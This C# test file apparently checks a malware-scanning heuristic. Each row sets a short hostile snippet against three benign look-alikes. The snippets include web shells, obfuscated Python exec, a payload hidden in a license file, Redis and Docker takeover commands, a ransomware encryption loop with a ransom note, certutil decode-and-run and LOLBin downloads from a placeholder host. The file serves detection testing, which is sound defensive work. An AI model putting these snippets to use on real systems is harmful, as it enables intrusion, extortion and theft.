using ScanHost.Pipeline.Tests.Doubles;
using static ScanHost.Pipeline.Findings.ScriptHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about scripts that lock, take servers over, fetch by the way or reach for an interpreter by a detour; and honest ones that come close.</summary>
public sealed class ScriptAttackCases
{
    private static readonly HeuristicCase[] Table =
    [
        HeuristicCase.Of(ServerCommandPage, "a.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">string Run(string arg) { var p = new ProcessStartInfo(\"cmd.exe\", \"/c \" + arg); p.RedirectStandardOutput = true; return Process.Start(p).StandardOutput.ReadToEnd(); } void Go(object s, EventArgs e) { Response.Write(Run(box.Text)); }</script><asp:TextBox id=\"box\" runat=\"server\"/>",
            "<%@ Page Language=\"C#\" %><script runat=\"server\">string Run() { var p = new ProcessStartInfo(\"cmd.exe\", \"/c ver\"); p.RedirectStandardOutput = true; return Process.Start(p).StandardOutput.ReadToEnd(); }</script><asp:TextBox id=\"box\" runat=\"server\"/>",
            "<%@ page import=\"java.util.*\" %><% String month = request.getParameter(\"month\"); Process p = new ProcessBuilder(\"/opt/reports/render\", \"--month\", month).start(); p.getInputStream(); %>",
            "<%@ page import=\"java.util.*\" %><% String command = \"df -h\"; Process p = Runtime.getRuntime().exec(new String[] { \"/bin/sh\", \"-c\", command }); out.print(request.getParameter(\"title\")); p.getInputStream(); %>"),
        HeuristicCase.Of(ServerWebShell, "a.jsp", "<% String c = request.getParameter(\"c\"); Process p = new ProcessBuilder(\"/bin/sh\", \"-c\", \"ls \" + c).start(); %>",
            "<% String month = request.getParameter(\"month\"); Process p = new ProcessBuilder(\"/opt/reports/bin/render\", \"--month\", month).start(); %>",
            "<% Process p = new ProcessBuilder(\"/bin/sh\", \"/opt/rotate.sh\").start(); %>",
            "<% String name = request.getParameter(\"name\"); Process p = Runtime.getRuntime().exec(new String[] { \"/usr/bin/convert\", name, \"out.png\" }); %>"),
        HeuristicCase.Of(ServerLoadsCode, "b.aspx", "<%@ Page Language=\"C#\" %><% byte[] code = Convert.FromBase64String(Request.Form[\"p\"]); Assembly.Load(code).CreateInstance(\"U\").Equals(this); %>",
            "<%@ Page Language=\"C#\" %><% string name = \"Shop.Plugins\"; var plugin = Assembly.Load(name).GetType(\"Shop.Start\"); Response.Write(Request[\"page\"]); %>",
            "<%@ Page Language=\"C#\" %><% var bytes = Convert.FromBase64String(Request.Form[\"picture\"]); Response.BinaryWrite(bytes); %>",
            "<%@ Page Language=\"C#\" %><% var all = AppDomain.CurrentDomain.GetAssemblies(); Response.Write(all.Length + Request[\"x\"]); %>"),
        HeuristicCase.Of(PyHiddenExec, "a.py", "import builtins\nrun = getattr(builtins, ''.join(chr(c) for c in (101, 120, 101, 99)))\nrun(text)\n", "import builtins\n# For Python 2 and 3.\nexec_ = getattr(builtins, 'exec')\n", "actions = {'exec': run, 'eval': check}\nprint(actions['exec'])\n", "exec(open('version.py').read())\n"),
        HeuristicCase.Of(PyHiddenPayload, "a.py", "from pathlib import Path\ntext = Path(__file__).with_name('LICENSE.txt').read_text()\nglobals()['__builtins__']['exec'](bytes(int(text[i:i + 8], 2) for i in range(0, len(text), 8)))\n", "from pathlib import Path\nexec(Path(__file__).with_name('_version.py').read_text())\n", "import builtins\nprint(getattr(builtins, name)(1))\n", "from pathlib import Path\nprint(Path(__file__).with_name('a.txt').read_text())\n"),
        HeuristicCase.Of(PyInstallsUnseen, "a.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'requests'], creationflags=0x08000000)\n", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n", "import subprocess\nsubprocess.run(['ffmpeg', '-i', name], creationflags=subprocess.CREATE_NO_WINDOW)\n", "print('Please run pip install requests first')\n"),
        HeuristicCase.Of(TakesDatabases, "a.sh", "#!/bin/sh\nredis-cli -h $1 config set dir /var/spool/cron/\nredis-cli -h $1 config set dbfilename root\n", "#!/bin/sh\nredis-cli config set dir /var/lib/redis\nredis-cli config set dbfilename dump.rdb\n", "#!/bin/sh\nredis-cli config get dir\nls /var/spool/cron\n", "#!/bin/sh\nredis-cli config set maxmemory 100mb\ncrontab -l\n"),
        HeuristicCase.Of(TakesContainers, "a.py", "import requests\nrequests.post(f'http://{ip}:2375/containers/create', data='{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/mnt\"]},\"Cmd\":[\"chroot\",\"/mnt\"]}')\n", "import requests\nrequests.post('http://localhost:2375/containers/create', json={'Image': 'alpine', 'HostConfig': {'Binds': ['/srv/data:/data']}})\n", "import docker\nc = docker.from_env()\nc.containers.run('alpine', volumes=['/:/host:ro'])\n", "import requests\nprint(requests.get('http://localhost:2375/containers/json').json())\n"),
        HeuristicCase.Of(LocksFiles, "a.py", "import os\nfrom cryptography.fernet import Fernet\nEXT = ('.doc', '.xls', '.jpg', '.pdf', '.sql')\nfor root, _, names in os.walk(home):\n    for n in names:\n        if n.endswith(EXT):\n            open(n + '.locked', 'wb').write(f.encrypt(open(n, 'rb').read()))\n            os.remove(n)\n",
            "import os, zipfile\nEXT = ('.doc', '.xls', '.jpg', '.pdf', '.sql')\nfor root, _, names in os.walk(home):\n    for n in names:\n        if n.endswith(EXT):\n            zipfile.ZipFile(n + '.zip', 'w').write(n)\n            os.remove(n)\n",
            "import os\nfrom cryptography.fernet import Fernet\nfor n in ('backup.tar',):\n    open(n + '.sealed', 'wb').write(f.encrypt(open(n, 'rb').read()))\n    os.remove(n)\n",
            "import os\nEXT = ('.doc', '.xls', '.jpg', '.pdf', '.sql')\nprint(sum(n.endswith(EXT) for _, _, names in os.walk(home) for n in names))\n"),
        HeuristicCase.Of(RansomNote, "a.ps1", "@'\nYour files have been encrypted. Send 0.1 BTC to the wallet below.\n'@ | Set-Content \"$d\\README.txt\"\n", "Write-Host 'The files have been encrypted with the key of the backup server.'\n", "# Your files have been encrypted, send bitcoin: what such notes say\n$words = 'files have been encrypted', 'send 0.1 BTC', '.onion'\nGet-ChildItem *.txt | Select-String $words | Out-File found.txt\n", "Write-Host 'Send the invoice, pay in BTC or EUR.'\n"),
        HeuristicCase.Of(BatStartsDecoded, "a.bat", "@echo off\r\ncertutil -decode \"%~f0\" \"%TEMP%\\q.exe\" >nul\r\nstart \"\" \"%TEMP%\\q.exe\"\r\n", "@echo off\r\ncertutil -decode cert.b64 cert.cer\r\ncertutil -addstore root cert.cer\r\n", "@echo off\r\ncertutil -encode tool.exe tool.b64\r\nstart tool.exe\r\n", "@echo off\r\ncertutil -hashfile setup.exe SHA256\r\nstart setup.exe\r\n"),
        HeuristicCase.Of(BatOddDownload, "a.cmd", "@echo off\r\ncmd /c desktopimgdownldr.exe /lockscreenurl:https://host.invalid/a.png /eventName:d\r\n", "@echo off\r\ncurl -L -o sdk.zip https://host.invalid/sdk.zip\r\n", "@echo off\r\nMpCmdRun.exe -SignatureUpdate\r\n", "@echo off\r\ncertreq -new request.inf request.csr\r\nhh.exe manual.chm\r\n"),
        HeuristicCase.Of(BatStartsDropped, "a.cmd", "@echo off\r\nregsvr32 /s /n /i:run \"%ProgramData%\\Prn\\prn.dll\"\r\n", "@echo off\r\nregsvr32 /s \"%ProgramFiles%\\Firma\\firma.dll\"\r\n", "@echo off\r\nrundll32 printui.dll,PrintUIEntry /in /n \\\\server\\printer\r\n", "@echo off\r\nfor %%d in (atl.dll urlmon.dll) do regsvr32.exe /s %%d\r\n"),
        HeuristicCase.Of(JsHiddenWallet, "a.js", "var w = top['eth' + 'ereum'];\nw.request({ method: 'eth_sendTransaction', params: [p] });\n", "window.ethereum.request({ method: 'eth_sendTransaction', params: [p] });\n", "var name = 'eth' + 'ereum';\nconsole.log(name);\n", "var s = 'ether' + 'scan';\nprovider.send('eth_sendTransaction', [p]);\n"),
        HeuristicCase.Of(PySetupNetwork, "setup.py", "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('http://host.invalid/c')\nsetup(name='a', version='1')\n",
            "import hashlib, urllib.request\nfrom setuptools import setup\nSHA256 = '" + "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" + "'\ndata = urllib.request.urlopen('https://host.invalid/c.tar.gz').read()\nif hashlib.sha256(data).hexdigest() != SHA256: raise SystemExit\nsetup(name='a', version='1')\n",
            "from setuptools import setup\nsetup(name='a', version='1', url='https://host.invalid/')\n",
            "import urllib.request\nurllib.request.urlopen('https://host.invalid/c')\n"),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();
}
